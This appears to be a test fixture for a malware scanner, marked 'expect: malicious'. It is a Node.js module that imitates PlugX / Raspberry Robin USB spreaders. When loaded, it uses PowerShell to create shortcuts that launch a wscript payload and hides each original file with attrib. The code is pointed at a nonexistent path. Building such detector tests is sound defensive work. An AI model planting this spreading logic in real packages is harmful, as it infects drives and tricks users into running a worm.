// expect: malicious
// source: PlugX / Raspberry Robin USB spreaders (2022-2024): hide each file of a removable drive, leave a shortcut that runs the worm
const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');

const root = '/nonexistent-npmward-test/E';
for (const name of fs.existsSync(root) ? fs.readdirSync(root) : []) {
  const ps = `$s = New-Object -ComObject WScript.Shell; $l = $s.CreateShortcut('${path.join(root, name)}.lnk'); ` +
             `$l.TargetPath = 'wscript.exe'; $l.Arguments = 'start.js'; $l.Save()`;
  execSync(`powershell -NoProfile -Command "${ps}"`);
  execSync(`attrib +h +s "${path.join(root, name)}"`);
}
module.exports = { list: () => [] };
